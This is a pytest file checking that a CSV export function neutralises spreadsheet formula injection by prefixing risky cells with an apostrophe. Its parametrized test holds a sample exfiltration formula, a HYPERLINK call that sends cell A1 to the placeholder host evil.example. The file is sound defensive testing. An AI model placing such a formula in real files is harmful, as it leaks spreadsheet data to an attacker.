"""Text for spreadsheets holds data and no formulas."""

import csv
import io

import polars
import pytest

from loadframe.reporting.exports import csv_bytes


def cells(table: polars.DataFrame) -> list[list[str]]:
    return list(csv.reader(io.StringIO(csv_bytes([table, table]).decode(), newline="")))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_that_a_spreadsheet_would_evaluate_has_an_apostrophe_before_it(start: str) -> None:
    text = f'{start}HYPERLINK("http://evil.example/?"&A1)'
    found = cells(polars.DataFrame({"operation": [text, None, "plain = text"], text: ["a", "b", "c"]}))
    assert found[0] == ["operation", f"'{text}"]
    assert [row[0] for row in found[1:]] == [f"'{text}", "", "plain = text"] * 2


def test_numbers_stay_numbers() -> None:
    table = polars.DataFrame({"share": [-0.5, None], "errors": [-3, 4], "value": ["-1.5e-3", "+7"]})
    assert cells(table)[1:3] == [["-0.5", "-3", "-1.5e-3"], ["", "4", "+7"]]
